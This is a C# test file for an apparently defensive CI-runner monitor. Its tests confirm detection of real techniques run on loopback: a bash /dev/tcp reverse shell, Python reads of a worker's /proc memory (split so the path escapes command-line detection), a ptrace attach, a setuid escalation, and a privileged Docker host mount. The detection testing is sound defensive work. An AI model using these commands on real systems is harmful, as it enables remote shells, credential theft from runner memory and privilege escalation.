using System.Net;
using System.Net.Sockets;
using HardenRunner.Events;
using HardenRunner.Monitoring;
using HardenRunner.Monitoring.Detectors;

namespace HardenRunner.Tests.Monitoring;

/// <summary>Each process detection against the real thing, on loopback (root: connector, fanotify, setuid, ptrace).</summary>
public class DetectionTests
{
    private static readonly TimeSpan Wait = TimeSpan.FromSeconds(10);

    [SkippableFact]
    public void ReverseShell_BashInteractiveOverDevTcp_Detected()
    {
        Skip.IfNot(MonitorTest.IsRoot, MonitorTest.NeedsRoot);
        var sink = new CollectingSink();
        using var monitor = MonitorTest.StartMonitor(sink);
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;

        var shell = MonitorTest.Spawn("/bin/bash", "-c", $"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
        var shellPid = shell.Id;
        try
        {
            var accept = listener.AcceptSocketAsync();
            Assert.True(accept.Wait(Wait), "the shell did not connect");
            using var connection = accept.Result;
            var d = sink.WaitFor<DetectionEvent>(e => e.Type == DetectionTypes.ReverseShell && IsSelfOrChild(e.Process, shellPid), Wait);
            Assert.NotNull(d);
            Assert.Equal("critical", d.Severity);
            Assert.Equal("stdio-socket", d.Evidence["method"]);
            Assert.Equal($"127.0.0.1:{port}", d.Evidence["remote"]);
            Assert.Equal("stdin and stdout", d.Evidence["descriptors"]);
            Assert.Contains("bash", d.Process?.Exe);
        }
        finally
        {
            MonitorTest.Kill(shell);
        }
    }

    [SkippableFact]
    public void ReverseShell_ShellWithPipesOrUnixSocket_NotDetected()
    {
        Skip.IfNot(MonitorTest.IsRoot, MonitorTest.NeedsRoot);
        var sink = new CollectingSink();
        using var monitor = MonitorTest.StartMonitor(sink);

        // stdin/stdout are pipes (Process redirection) — and a shell on a Unix socket pair
        var piped = MonitorTest.Spawn("/bin/bash", "-c", "sleep 0.3");
        var unix = MonitorTest.Spawn(MonitorTest.Python, "-c", "import socket,subprocess; a,b=socket.socketpair(); subprocess.run(['/bin/sh','-c','sleep 0.3'],stdin=b,stdout=b)");
        try
        {
            Assert.True(piped.WaitForExit(10_000) && unix.WaitForExit(10_000));
            Assert.True(monitor.Drain(Wait));
            Assert.DoesNotContain(sink.All<DetectionEvent>(), e => e.Type == DetectionTypes.ReverseShell && e.Process?.Ancestors.Any(a => a.Pid == Environment.ProcessId) == true);
        }
        finally
        {
            MonitorTest.Kill(piped);
            MonitorTest.Kill(unix);
        }
    }

    [SkippableFact]
    public void RunnerMemoryRead_ReaderOpensWorkerMem_DetectedByFanotify()
    {
        Skip.IfNot(MonitorTest.IsRoot, MonitorTest.NeedsRoot);
        var sink = new CollectingSink();
        using var monitor = MonitorTest.StartMonitor(sink);
        Skip.If(monitor.MemoryWatchFallbackReason is not null, "fanotify unavailable: " + monitor.MemoryWatchFallbackReason);
        using var dir = MonitorTest.CreateTempDir();
        var worker = MonitorTest.Spawn(dir.Copy("/bin/sleep", "Runner.Worker"), "30");
        var workerPid = worker.Id;
        System.Diagnostics.Process? reader = null;
        try
        {
            Assert.True(MonitorTest.WaitUntil(() => monitor.MemoryDetector.WatchedFiles(workerPid) > 0, Wait), "stand-in worker not watched");

            // the tj-actions technique, minus the secret scraping: maps → seek → read mem; the path is built at run
            // time so the command line does not name it (that would be caught earlier, by the exec heuristic)
            reader = MonitorTest.Spawn(MonitorTest.Python, "-c",
                "import sys; p=sys.argv[1]; a=int(open('/proc/%s/maps'%p).readline().split('-')[0],16); f=open('/proc/%s/me'%p+'m','rb',0); f.seek(a); print(len(f.read(64)))",
                workerPid.ToString());
            var readerPid = reader.Id;
            Assert.True(reader.WaitForExit(10_000));
            Assert.Equal("64", reader.StandardOutput.ReadToEnd().Trim());

            var d = sink.WaitFor<DetectionEvent>(e => e.Type == DetectionTypes.RunnerMemoryRead && e.Process?.Pid == readerPid, Wait);
            Assert.NotNull(d);
            Assert.Equal("critical", d.Severity);
            Assert.Equal("fanotify", d.Evidence["method"]);
            Assert.Equal(workerPid.ToString(), d.Evidence["targetPid"]);
            Assert.Equal("Runner.Worker", d.Evidence["target"]);
            Assert.Contains("python", d.Process?.Exe);

            // the same through a thread's own memory file, /proc/<pid>/task/<tid>/mem (another inode)
            MonitorTest.Kill(reader);
            reader = MonitorTest.Spawn(MonitorTest.Python, "-c", "import sys; p=sys.argv[1]; open('/proc/%s/task/%s/me'%(p,p)+'m','rb',0)", workerPid.ToString());
            var taskReaderPid = reader.Id;
            Assert.True(reader.WaitForExit(10_000));
            Assert.NotNull(sink.WaitFor<DetectionEvent>(e => e.Type == DetectionTypes.RunnerMemoryRead && e.Process?.Pid == taskReaderPid, Wait));
        }
        finally
        {
            MonitorTest.Kill(reader);
            MonitorTest.Kill(worker);
        }
    }

    [SkippableFact]
    public void RunnerMemoryRead_PtraceAttach_DetectedFromConnector()
    {
        Skip.IfNot(MonitorTest.IsRoot, MonitorTest.NeedsRoot);
        var sink = new CollectingSink();
        using var monitor = MonitorTest.StartMonitor(sink);
        using var dir = MonitorTest.CreateTempDir();
        var worker = MonitorTest.Spawn(dir.Copy("/bin/sleep", "Runner.Worker"), "30");
        var workerPid = worker.Id;
        System.Diagnostics.Process? tracer = null;
        try
        {
            Assert.True(MonitorTest.WaitUntil(() => monitor.Runner.IsProtected(workerPid), Wait), "stand-in worker not recognised");
            tracer = MonitorTest.Spawn(MonitorTest.Python, "-c",
                "import ctypes,os,sys; libc=ctypes.CDLL(None,use_errno=True); p=int(sys.argv[1]); " +
                "assert libc.ptrace(16,p,0,0)==0, ctypes.get_errno(); os.waitpid(p,0); libc.ptrace(17,p,0,0)",
                workerPid.ToString());
            var tracerPid = tracer.Id;
            Assert.True(tracer.WaitForExit(10_000));
            Assert.Equal(0, tracer.ExitCode);
            var d = sink.WaitFor<DetectionEvent>(e => e.Type == DetectionTypes.RunnerMemoryRead && e.Process?.Pid == tracerPid, Wait);
            Assert.NotNull(d);
            Assert.Equal("ptrace-attach", d.Evidence["method"]);
        }
        finally
        {
            MonitorTest.Kill(tracer);
            MonitorTest.Kill(worker);
        }
    }

    [SkippableFact]
    public void RunnerMemoryRead_WithoutFanotify_DescriptorScanFindsHeldFile()
    {
        Skip.IfNot(MonitorTest.IsRoot, MonitorTest.NeedsRoot);
        var sink = new CollectingSink();
        using var monitor = MonitorTest.StartMonitor(sink, new ProcessMonitorOptions { UseFanotify = false, PollInterval = TimeSpan.FromMilliseconds(200) });
        Assert.Equal("disabled by options", monitor.MemoryWatchFallbackReason);
        using var dir = MonitorTest.CreateTempDir();
        var worker = MonitorTest.Spawn(dir.Copy("/bin/sleep", "Runner.Worker"), "30");
        var workerPid = worker.Id;
        System.Diagnostics.Process? reader = null;
        try
        {
            Assert.True(MonitorTest.WaitUntil(() => monitor.Runner.IsProtected(workerPid), Wait));
            reader = MonitorTest.Spawn(MonitorTest.Python, "-c",
                "import sys,time; p=sys.argv[1]; f=open('/proc/%s/me'%p+'m','rb',0); time.sleep(3)", workerPid.ToString());
            var readerPid = reader.Id;
            var d = sink.WaitFor<DetectionEvent>(e => e.Type == DetectionTypes.RunnerMemoryRead && e.Process?.Pid == readerPid, Wait);
            Assert.NotNull(d);
            Assert.Equal("fd-scan", d.Evidence["method"]);
        }
        finally
        {
            MonitorTest.Kill(reader);
            MonitorTest.Kill(worker);
        }
    }

    [SkippableFact]
    public void SudoUsed_SetuidRootProgramBelowUnprivilegedWorker_Detected()
    {
        Skip.IfNot(MonitorTest.IsRoot, MonitorTest.NeedsRoot);
        Skip.IfNot(File.Exists("/usr/bin/setpriv"), "needs setpriv (util-linux)");
        var sink = new CollectingSink();
        using var monitor = MonitorTest.StartMonitor(sink);
        using var dir = MonitorTest.CreateTempDir();

        // the worker runs as nobody (like a runner user); below it, a set-uid-root program (what sudo is) gains euid 0
        var workerExe = dir.Copy("/bin/bash", "Runner.Worker");
        var suid = dir.Copy("/bin/sleep", "suid-sleep", (UnixFileMode)0b100_111_101_101); // 04755, owned by root
        var worker = MonitorTest.Spawn("/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", workerExe, "-c", $"sleep 0.5; {suid} 1.5; true");
        var workerPid = worker.Id;
        try
        {
            var d = sink.WaitFor<DetectionEvent>(e => e.Type == DetectionTypes.SudoUsed && e.Process?.Ancestors.Any(a => a.Pid == workerPid) == true, Wait);
            Assert.NotNull(d);
            Assert.Equal("65534", d.Evidence["uid"]);
            Assert.Equal(workerPid.ToString(), d.Evidence["workerPid"]);
            Assert.EndsWith("suid-sleep", d.Process?.Exe);

            // the plain 'sleep 0.5' below the same worker ran as nobody: nothing for it
            Assert.True(monitor.Drain(Wait));
            Assert.Single(sink.All<DetectionEvent>(), e => e.Type == DetectionTypes.SudoUsed && e.Process?.Ancestors.Any(a => a.Pid == workerPid) == true);
        }
        finally
        {
            MonitorTest.Kill(worker);
        }
    }

    [SkippableFact]
    public void PrivilegedContainer_DockerScriptRunPrivileged_Detected()
    {
        Skip.IfNot(MonitorTest.IsRoot, MonitorTest.NeedsRoot);
        var sink = new CollectingSink();
        using var monitor = MonitorTest.StartMonitor(sink);
        using var dir = MonitorTest.CreateTempDir();
        var docker = dir.WriteScript("docker", "#!/bin/sh\nsleep 0.3\n");
        var run = MonitorTest.Spawn(docker, "run", "--rm", "--privileged", "-v", "/:/host", "alpine", "sh");
        var plain = MonitorTest.Spawn(docker, "run", "--rm", "alpine", "echo", "--privileged");
        var runPid = run.Id;
        var plainPid = plain.Id;
        try
        {
            var d = sink.WaitFor<DetectionEvent>(e => e.Type == DetectionTypes.PrivilegedContainer && e.Process?.Pid == runPid, Wait);
            Assert.NotNull(d);
            Assert.Equal("high", d.Severity);
            Assert.Equal("--privileged", d.Evidence["options"]);
            Assert.True(run.WaitForExit(10_000) && plain.WaitForExit(10_000));
            Assert.True(monitor.Drain(Wait));
            Assert.DoesNotContain(sink.All<DetectionEvent>(), e => e.Type == DetectionTypes.PrivilegedContainer && e.Process?.Pid == plainPid);
        }
        finally
        {
            MonitorTest.Kill(run);
            MonitorTest.Kill(plain);
        }
    }

    private static bool IsSelfOrChild(ProcessInfo? p, int pid) =>
        p is not null && (p.Pid == pid || (p.Ancestors.Count > 0 && p.Ancestors[0].Pid == pid));
}
